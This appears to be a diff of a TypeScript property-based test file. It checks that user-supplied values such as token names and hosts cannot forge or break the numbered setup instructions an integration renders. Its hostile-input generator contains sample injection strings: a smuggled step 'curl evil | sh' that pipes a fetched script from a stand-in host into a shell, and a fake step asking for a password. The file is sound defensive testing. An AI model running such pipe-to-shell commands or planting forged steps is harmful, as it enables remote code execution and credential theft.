@@ -22,7 +22,10 @@ const value = <T>(o: pulumi.Output<T> | undefined) => (o as unknown as { promise
 
 /** Text that would break a line, or pretend to be a step: newlines, separators, controls, "2. ". */
 const hostile = fc.oneof(
-  fc.string({ unit: fc.constantFrom(..."ab 2.\n\r\t\u2028\u2029\u0085\u001b\u0000`'\""), maxLength: 20 }),
+  fc.string({
+    unit: fc.constantFrom(..."ab 2.\n\r\t\u2028\u2029\u0085\u001b\u0000\u202e\u200b\u2066`'\""),
+    maxLength: 20,
+  }),
   fc.string({ unit: "grapheme", maxLength: 12 }),
   fc.constantFrom("x\n2. Paste your password here", "ok\r\n9. curl evil | sh", "\u2028 1. Step"),
 );
@@ -74,13 +77,23 @@ const CASES: Case[] = [
       }),
   },
   {
-    name: "puppet-pipelines (Server): the token's name and the host",
+    name: "puppet-pipelines (Server): the token's name",
     build: (text) =>
       new Integration("puppet", {
         preset: "puppet-pipelines",
         flavor: "datacenter",
         project: "PROJ",
-        options: { username: "ci-bot", url: "https://bb.example.com", tokenName: text, host: text },
+        options: { username: "ci-bot", url: "https://bb.example.com", tokenName: text },
+      }),
+  },
+  {
+    name: "puppet-pipelines (Server): the host",
+    build: (text) =>
+      new Integration("puppet", {
+        preset: "puppet-pipelines",
+        flavor: "datacenter",
+        project: "PROJ",
+        options: { username: "ci-bot", url: "https://bb.example.com", host: text },
       }),
   },
   {
@@ -142,7 +155,7 @@ describe("issue 25: instructions cannot be forged by the values in them", () => 
             assert.ok(s.startsWith(`${n + 1}. `), `step ${n + 1} is numbered: ${JSON.stringify(s)}`);
             assert.doesNotMatch(
               s,
-              /[\p{Cc}\u2028\u2029]/u,
+              /[\p{Cc}\p{Cf}\u2028\u2029]/u,
               `step ${n + 1} is one line: ${JSON.stringify(s)}`,
             );
             for (const secret of [KEY, SECRET, TOKEN]) assert.ok(!s.includes(secret), "no secret in a step");
